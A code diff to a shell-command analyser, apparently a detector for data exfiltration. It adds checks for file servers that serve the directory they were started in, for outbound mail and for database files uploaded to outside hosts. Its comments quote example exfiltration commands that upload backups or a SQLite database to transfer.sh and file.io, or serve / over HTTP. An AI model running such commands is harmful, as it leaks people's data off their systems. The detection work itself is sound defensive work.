@@ -932,6 +932,14 @@ class Analyser:
             return None
         self.out.programs.add(prog)
         text = render(argv)
+        if (
+            self.cwd
+            and prog in self.table.serve_here
+            and not any(a[:1] in "/~." or a.startswith(("-d", "--directory")) for a in argv[1:])
+        ):
+            # `cd / && python3 -m http.server`: a file server serves where it was started
+            argv = [*argv, self.cwd]
+            text = render(argv)
         w = split_words(argv, text)
         w.recursive_ctx = recursive_ctx
         w.cwd = self.cwd
@@ -2403,6 +2411,8 @@ class Analyser:
                 if argv[k].lower() in ("-a", "--attach", "-attachments", "-attachment")
             ]
             files += [r.target.text for r in c.redirects if r.op == "<"]
+            if dests:
+                self.out.kinds.add("send")  # a message sent to people: an outbound message
             for d in dests or ["unknown"]:
                 j.sinks.append(Sink(d, files, True, w.text, argv))
         elif prog in _DNS and pos:
@@ -2682,6 +2692,9 @@ class Analyser:
                     break
                 if self.table.is_data_copy(f) and self.dest_class(sink.dest) in _OUTSIDE:
                     what = f  # `curl -T /var/backups/app.sql.gz https://transfer.sh/`: the data
+                    break
+                if self.table.is_database_file(f) and self.dest_class(sink.dest) in _OUTSIDE:
+                    what = f  # `curl -F file=@db.sqlite3 https://file.io`: a project's database
                     break
         if not what:
             what = self._secret_carried(sink)
